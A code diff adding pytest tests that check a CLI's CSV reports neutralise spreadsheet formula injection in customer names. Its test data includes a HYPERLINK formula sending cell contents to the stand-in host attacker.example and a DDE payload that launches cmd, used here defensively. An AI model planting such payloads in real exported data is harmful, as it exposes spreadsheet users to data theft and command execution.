@@ -133,3 +133,30 @@ def test_report_help_teaches_with_an_example(run: Cli) -> None:
     ):  # fmt: skip
         assert name in out
         assert "Example:" in run.ok("report", name, "--help").stdout
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+    ],
+)
+def test_a_formula_in_a_customer_name_stays_text_in_csv(run: Cli, name: str) -> None:
+    customer = run.json("customer", "create", "--name", name, "--region", "na")["id"]
+    run.json(*contract_create(customer, paid_through="2026-03-20"))
+    out = run.ok("report", "maintenance-lapsing", "--csv").stdout
+    [row] = [r for r in csv.reader(io.StringIO(out)) if r[0] == str(customer)]
+    assert row[1] == "'" + name  # a spreadsheet shows it as text, never runs it
+    assert run.json("report", "maintenance-lapsing")[0]["customer"] == name  # JSON unchanged
+
+
+@pytest.mark.parametrize("start", ["\t", "\r"])
+def test_a_cell_starting_with_tab_or_carriage_return_is_quoted_in_csv(start: str) -> None:
+    from cli.commands.reports import _csv_value
+
+    assert _csv_value(start + "=1+1") == "'" + start + "=1+1"
+    assert _csv_value("Acme = best") == "Acme = best"
+    assert _csv_value(-3) == "-3"  # our own numbers are not formulas
